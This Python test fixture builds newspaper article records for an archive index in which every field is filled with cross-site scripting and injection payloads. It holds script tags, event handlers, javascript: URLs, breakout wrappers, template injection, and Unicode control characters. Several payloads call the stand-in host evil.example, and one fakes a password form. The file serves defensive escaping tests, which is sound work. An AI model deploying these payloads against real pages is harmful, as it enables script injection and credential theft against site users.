"""Newspaper pages that try to take over the page they are shown on, in every field."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from index.schema import ArticleRecord, Paragraph

PAYLOADS = (
    "<script>window.__struck=1;fetch('http://evil.example/a')</script>",
    "<img src=x onerror=\"window.__struck=2\"><img src='http://evil.example/pixel.png'>",
    '"><svg/onload=window.__struck=3>',
    '<a href="javascript:window.__struck=4">读全文</a> [点我](javascript:window.__struck=5) <http://evil.example/>',
    "![p](http://evil.example/p.png) **粗** `code` # 题 http://evil.example/x www.evil.example",
    "$$\\href{javascript:window.__struck=6}{x}$$ \\(x\\) ```mermaid\ngraph TD; A-->B\n```",
    "<iframe src='http://evil.example/'></iframe><form action='http://evil.example/'><input name=password type=password></form>",
    "<style>body{display:none}</style><div style='position:fixed;inset:0;z-index:9999'>盖住</div>",
    "</div></blockquote></article>\n\n<h1>破框</h1>\n\n- 列表",
    "{{constructor.constructor('window.__struck=7')()}} ${window.__struck=8} &lt;b&gt; &#60;b&#62;",
    "\u202e倒着写\u202c\u2066\u200b\x00\x1b[31m\ud800零宽",
    "长" * 10_000,
    "W" * 10_000,
)

WORD = "炼钢工人李铁柱获奖"


# What each is dressed in: what a careless page would let it break out of, or be decoded from.
_DRESSES = (
    "{}",
    '">{}',
    "'>{}",
    "--></textarea></title></template>{}",
    "]]>{}<![CDATA[",
    "\n\n{}\n\n",
    "`{}`",
    "[x]({}) ![x]({})",
)
BARE = (
    "<script>window.__struck=11</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__struck=12>",
    "<img srcset='http://evil.example/p.png 2x' loading=eager>",
    "<svg><script href=data:,window.__struck=13 /></svg>",
    "<svg><animate onbegin=window.__struck=14 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__struck=15>",
    "<details open ontoggle=window.__struck=16><summary>x</summary></details>",
    "<body onload=window.__struck=17><input autofocus onfocus=window.__struck=18>",
    "<iframe srcdoc='<script>parent.__struck=19</script>'></iframe>",
    "<object data='javascript:window.__struck=20'></object><embed src='http://evil.example/e'>",
    "<link rel=stylesheet href='http://evil.example/s.css'><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><form action='javascript:window.__struck=21'><button>x</button></form>",
    "<style>@import 'http://evil.example/s.css';#wb-ask-line{display:none}</style>",
    "<div style='background:url(http://evil.example/b.png);position:fixed;inset:0;z-index:99'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=window.__struck=22>'>",
    "<a href='javascript:window.__struck=23'>x</a><a href='data:text/html,<script>1</script>'>y</a>",
    "<button class='wb-open' value='javascript:window.__struck=24' onclick='window.__struck=25'>x</button>",
    "<button id='wb-close' data-entry='overview' name='wb-menu'>x</button><span id='wb-panel-body'></span>",
    "<video src='http://evil.example/v' autoplay onerror=window.__struck=26></video><audio src='http://evil.example/a'>",
    "javascript:window.__struck=27",
    "http://evil.example/track?x=1 www.evil.example mail@evil.example",
    "$$\\href{javascript:window.__struck=28}{x}$$ \\(\\includegraphics{http://evil.example/l.png}\\) \\[x\\] $x$",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.__struck=29>]; click A href 'javascript:1'\n```",
    "# 一级\n\n- 列表\n\n|a|b|\n|-|-|\n\n> 引\n\n---\n[ref]: http://evil.example/ 'x'",
    "{{constructor.constructor('window.__struck=30')()}} ${window.__struck=31} #{7*7} <%= 7*7 %>",
    "&lt;img src=x onerror=window.__struck=32&gt; &#60;script&#62; &#x3c;b&#x3e; %3Cscript%3E \\u003cscript\\u003e",
    "\u202e反写\u202d\u2066\u2067\u2069\u200e\u200f\u061c\u200b\ufeff\u2028\u2029\x00\x08\x1b[2J\ud800\udfff",
    "Z\u0301\u0302\u0303\u0304\u0305" * 40,
    "不断行的长字" * 1_700,
    "unbroken" * 1_250,
)


def vectors() -> Iterator[str]:
    """Yield every bare payload in every dress, 248 in all."""
    for dress in _DRESSES:
        for bare in BARE:
            yield dress.replace("{}", bare)


def in_every_field(payloads: Sequence[str], *, number: int = 1) -> ArticleRecord:
    """Return an article with these payloads in turn in every field, and one true sentence to be found by ``WORD``."""

    def text(place: int) -> str:
        return payloads[place % len(payloads)]

    return ArticleRecord(
        id=f"bad{number}",
        issue_id="bad",
        source=text(0),
        ordinal=number,
        newspaper=text(1)[:200],
        date=text(2)[:40],
        issue_number=7,
        page=text(3)[:40],
        weekday=text(4),
        headline=text(5),
        kicker=text(6),
        subtitle=text(7),
        subheads=(text(8),),
        authors=(text(9)[:200], text(10)[:200]),
        captions=(text(11),),
        jump=text(12),
        flags=(text(13)[:80],),
        paragraphs=(Paragraph(1, f"{WORD}。{text(14)}", (1,), subhead=text(8), flags=("已拼接", text(15)[:80])),),
    )


def hostile_article() -> ArticleRecord:
    """Return an article with a payload in every field and one true sentence to be found by ``WORD``."""
    paragraphs = tuple(
        Paragraph(number, f"{WORD}第{number}回。{payload}", (number,), subhead=payload[:200], flags=("已拼接", payload[:80]))
        for number, payload in enumerate(PAYLOADS, 1)
    )
    return ArticleRecord(
        id='bad"><b>1&x=<i>',
        issue_id="bad",
        source=PAYLOADS[0],
        ordinal=1,
        newspaper=PAYLOADS[1],
        date=PAYLOADS[2],
        issue_number=7,
        page=PAYLOADS[3],
        weekday=PAYLOADS[4],
        headline=" ".join(payload[:300] for payload in PAYLOADS),
        kicker=PAYLOADS[5],
        subtitle=PAYLOADS[6],
        subheads=PAYLOADS[:3],
        authors=PAYLOADS[:4],
        captions=PAYLOADS,
        jump=PAYLOADS[8],
        flags=(PAYLOADS[7],),
        paragraphs=paragraphs,
    )
